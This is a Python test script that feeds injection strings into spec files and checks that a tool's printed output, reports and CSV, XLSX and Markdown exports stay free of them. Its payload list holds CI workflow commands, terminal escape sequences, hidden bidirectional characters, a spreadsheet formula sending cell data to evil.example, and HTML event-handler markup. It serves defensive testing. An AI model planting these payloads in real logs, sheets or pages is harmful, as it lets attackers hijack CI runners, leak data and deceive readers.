#!/usr/bin/env python3
"""Hostile lines: whatever text a spec carries in one place, nothing that the program prints or writes for people obeys it.

usage: hostile_lines.py PROGRAM SOURCE WORK [--count N] [--seed S] [--spec FILE…]      N: places, drawn from all; 0: every one

Every scalar and every name of the golden and consumer specs is a place, as in hostile_values.py, which looks at compiled trees. Here the outputs that people and CI
systems read are looked at: check in every format, plan as text and every file of `plan -o`, show, diff as text and Markdown, compile's messages. In none of them
* begins a line, behind blanks, with '::', or holds '##[' (runners of GitHub and Azure obey that), but for the commands that --format github is asked for;
* stands a character that a terminal obeys or nobody sees;
* is a cell of a sheet a formula;
* does the text make a line of its own: there are as many lines as with a harmless word.
"""
import argparse
import collections
import csv
import glob
import io
import json
import os
import random
import re
import shutil
import subprocess
import sys
import unicodedata
import xml.etree.ElementTree
import zipfile

import yaml

import hostile_values

WORD = hostile_values.WORD
LINE = "zq\n::add-mask::zq\r\n \t::error::zq\u2028::zq\u0085::zq ##[add-mask]zq ##vso[task.x]zq"
HOSTILE = {
    "lines": LINE,
    "a command": "::add-mask::zq",
    "a command behind blanks": " \u00a0\u3000::add-mask::zq",
    "an old command": "##[add-mask]zq",
    "terminal": "zq\x1b]0;PWNED\x07\x1b[2J\x7f\u009b31m\x00\x08",
    "hidden": "a\u202egnp\u2066b\u200b\u200d\ufeff\u00ad\u2060\u061c\u180e\U000e0041\u3164\ufff9c",
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"zq\")",
    "plus": "+zq(1)",
    "at": "@SUM(1)",
    "minus": "-zq+1",
    "fence": "```\n# zq\n```",
    "markup": "<img src=x onerror=zq>| a | [zq](http://evil.example) ![z](x) https://evil.example `zq` | zq",
}
EXPORTED = (".txt", ".md", ".csv", ".dot", ".topo")


class Bad(Exception):
    pass


def quoted(text):
    return '"' + "".join({'"': '\\"', "\\": "\\\\"}.get(c, c if 32 <= ord(c) < 127 else f"\\U{ord(c):08x}") for c in text) + '"'


def is_hidden(c):
    return c != "\n" and (unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs") or c in "\u115f\u1160\u3164\uffa0")


def look(name, text, patch=False):
    """Raises Bad where a reader of this text would obey what stands in it."""
    for line in text.split("\n"):
        if line.lstrip().startswith("::"):
            raise Bad(f"{name}: a line is a command: {line[:100]!r}")
        if not patch and ("##[" in line or "##vso[" in line):
            raise Bad(f"{name}: a line holds a command: {line[:160]!r}")
    hidden = next((c for c in text if is_hidden(c)), None)
    if hidden is not None and not patch:
        at = text.index(hidden)
        raise Bad(f"{name}: the sign U+{ord(hidden):04X} stands in it: {text[max(0, at - 60):at + 20]!r}")


def is_formula(cell):
    cell = cell.strip()
    return bool(cell) and cell[0] in "=+-@\uff1d\uff0b\uff0d\uff20" and cell != "-" and not re.fullmatch(r"[+-][0-9.]+(e[+-]?[0-9]+)?", cell)


def look_sheet(name, text):
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if "\n" in cell or is_formula(cell):
                raise Bad(f"{name}: the cell {cell[:100]!r}")


def look_workbook(name, data):
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for part in book.namelist():
            for element in xml.etree.ElementTree.fromstring(book.read(part)).iter():
                if element.text and element.tag.endswith("}t"):
                    look(f"{name}/{part}", element.text)
                    if is_formula(element.text) or "\n" in element.text:
                        raise Bad(f"{name}/{part}: the cell {element.text[:100]!r}")


def look_markdown(name, text):
    """Outside of code no HTML, no link and no image that the spec brings; fences end where we end them."""
    fence, outside = None, []
    for line in text.split("\n"):
        found = re.match(r" {0,3}(`{3,})", line)
        if found and fence is None:
            fence = found[1]
        elif fence is not None and re.fullmatch(r" {0,3}`{3,} *", line) and len(line.strip()) >= len(fence):
            fence = None
        elif fence is None:
            outside.append(re.sub(r"(?<!\\)(`+)(?!`).*?(?<!`)\1(?!`)", "", line))
    for line in outside:
        if re.search(r"<img|(?<!\\)\]\((?!#)|(?<!\\)!\[|https?://evil", line) or line.startswith("# zq"):
            raise Bad(f"{name}: markup of the spec's: {line[:160]!r}")


class Trial:
    def __init__(self, program, work, spec):
        self.program, self.folder = program, os.path.join(work, "spec")
        shutil.rmtree(self.folder, ignore_errors=True)
        shutil.copytree(os.path.dirname(spec), self.folder, ignore=shutil.ignore_patterns("out", "*.expected"))
        self.spec, self.old, self.out = os.path.join(self.folder, "spec.yaml"), os.path.join(self.folder, "zz-before.yaml"), os.path.join(work, "plan")
        with open(spec, encoding="utf-8") as f:
            self.text = f.read()
        with open(self.old, "w", encoding="utf-8") as f:
            f.write(self.text)

    def run(self, *arguments):
        run = subprocess.run([self.program, *arguments], capture_output=True, timeout=120, check=False, cwd=self.folder)
        if run.returncode not in (0, 1, 2):
            raise Bad(f"{arguments}: the program ended with {run.returncode}: {run.stderr[-200:]!r}")
        return run.stdout.decode(), run.stderr.decode()

    def outputs(self, text, every):
        """[(name, lines)] of what is printed for this text of the spec, each looked at."""
        with open(self.spec, "w", encoding="utf-8") as f:
            f.write(text)
        lines = {}
        commands = [("check", "spec.yaml"), ("plan", "spec.yaml", "-o", self.out, "--force", "--exports", "all"), ("show", "spec.yaml"), ("diff", "zz-before.yaml", "spec.yaml"),
                    ("check", "spec.yaml", "--format", "github"), ("check", "spec.yaml", "--format", "junit")]
        if every:
            commands += [("check", "spec.yaml", "--format", f) for f in ("json", "sarif", "gitlab")]
            commands += [("plan", "spec.yaml", "--format", "json"), ("plan", "spec.yaml", "--what-if", "each"), ("diff", "zz-before.yaml", "spec.yaml", "--format", "markdown"), ("check", "spec.yaml", "--diff"),
                         ("compile", "spec.yaml", "-o", self.out + "-tree", "--check")]
        for command in commands:
            if command[0] == "plan" and "-o" in command:
                shutil.rmtree(self.out, ignore_errors=True)
            out, err = self.run(*command)
            name = " ".join(c for c in command if not c.startswith("/"))
            if "github" in command:
                for line in out.split("\n"):
                    if line and not re.match(r"::(error|warning|notice) (file=[^:]*,)?title=[a-z0-9-]+::", line):
                        raise Bad(f"{name}: the line {line[:160]!r}")
                    look(name, line.removeprefix("::"))
            elif "json" in command or "sarif" in command or "gitlab" in command:
                if out:
                    json.loads(out)
                look(name, out)
            else:
                if "junit" in command and out:
                    xml.etree.ElementTree.fromstring(out)
                look(name, out, patch="--diff" in command)
            if "markdown" in command:
                look_markdown(name, out)
            look(name + ", messages", err)
            if command[0] in ("plan", "diff") and "json" not in command:
                lines[name] = out.count("\n")
        for at, _, files in os.walk(self.out):
            for file in files:
                path = os.path.join(at, file)
                with open(path, "rb") as f:
                    data = f.read()
                if file.endswith(".xlsx"):
                    look_workbook(file, data)
                elif file.endswith(EXPORTED):
                    told = data.decode()
                    look(file, told)
                    lines[file] = told.count("\n")
                    if file.endswith(".csv"):
                        look_sheet(file, told)
                    if file.endswith(".md"):
                        look_markdown(file, told)
        return lines


def self_test():
    seen = 0
    for trial in (lambda: look("a", "b\n \u00a0::c"), lambda: look("a", "b ##[c]"), lambda: look("a", "b\x1b"), lambda: look("a", "b\u202e"), lambda: look_sheet("a", "b,=c\n"),
                  lambda: look_sheet("a", 'b,"c\nd"\n'), lambda: look_markdown("a", "```text\n```\n# zq\n"), lambda: look_markdown("a", "b [zq](http://evil.example)")):
        try:
            trial()
        except Bad:
            seen += 1
    look("a", "b: ::c\n\\::d"), look_sheet("a", "-1.5,'=b,-\n"), look_markdown("a", "````text\n```\n# zq\n````\n`[a](b)`")
    return seen == 8


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("program")
    parser.add_argument("source")
    parser.add_argument("work")
    parser.add_argument("--count", type=int, default=60)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--spec", nargs="*")
    parser.add_argument("--text", nargs="*", choices=list(HOSTILE))
    options = parser.parse_args()
    os.makedirs(options.work, exist_ok=True)
    if not self_test():
        print("FAILED: a hostile text of the self-test was not seen")
        return 1
    program = os.path.abspath(options.program)
    specs = options.spec or sorted(glob.glob(os.path.join(options.source, "tests/golden/*/*/spec.yaml")) + glob.glob(os.path.join(options.source, "tests/consumers/specs/*.yaml")) +
                                   glob.glob(os.path.join(options.source, "examples/*.yaml")))
    chance = random.Random(options.seed)
    every = []
    for spec in specs:
        with open(spec, encoding="utf-8") as f:
            text = f.read()
        try:
            found = hostile_values.places(text)
        except (yaml.YAMLError, AttributeError, UnicodeError):
            continue                              # a spec that shall not be read
        for place in found:
            every.append((spec, place))
    chosen = sorted(every if options.count == 0 else chance.sample(every, min(options.count, len(every))))
    failed, taken, trial, of_spec = collections.OrderedDict(), 0, None, None
    for number, (spec, (begin, end, value, _)) in enumerate(chosen):
        if of_spec != spec:
            trial, of_spec = Trial(program, options.work, spec), spec
        line = trial.text.count("\n", 0, begin) + 1
        where = f"{os.path.relpath(spec, options.source)}:{line}: '{value[:40]}'"
        for whole in (True, False):
            put = lambda new: trial.text[:begin] + quoted(new if whole else value + new) + trial.text[end:]
            try:
                plain = trial.outputs(put(WORD), number % 8 == 0)
            except (Bad, subprocess.TimeoutExpired, UnicodeDecodeError) as problem:
                failed.setdefault(str(problem)[:90], f"{where} is the word: {problem}")
                continue
            for name in options.text or (HOSTILE if number % 8 == 0 else ["lines", *chance.sample(list(HOSTILE), 2)]):
                try:
                    told = trial.outputs(put(HOSTILE[name]), number % 8 == 0)
                    taken += 1
                    for output, count in told.items():
                        # A text that is refused in this place, or that says something else, changes how much there is to say.
                        if output in plain and name == "lines" and output in ("plan.txt", "runbook.md") and count > plain[output] and trial.run("check", "spec.yaml")[0] == "":
                            raise Bad(f"{output}: {count} lines for {plain[output]}")
                except (Bad, subprocess.TimeoutExpired, UnicodeDecodeError, ValueError, xml.etree.ElementTree.ParseError) as problem:
                    failed.setdefault(str(problem)[:60], f"{where} {'is' if whole else 'with'} {name}: {problem}")
    for problem in failed.values():
        print("FAILED:", problem)
    print(f"{len(chosen):,} of {len(every):,} places in {len(specs)} specs: {taken:,} texts, {len(failed)} kinds of fault")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
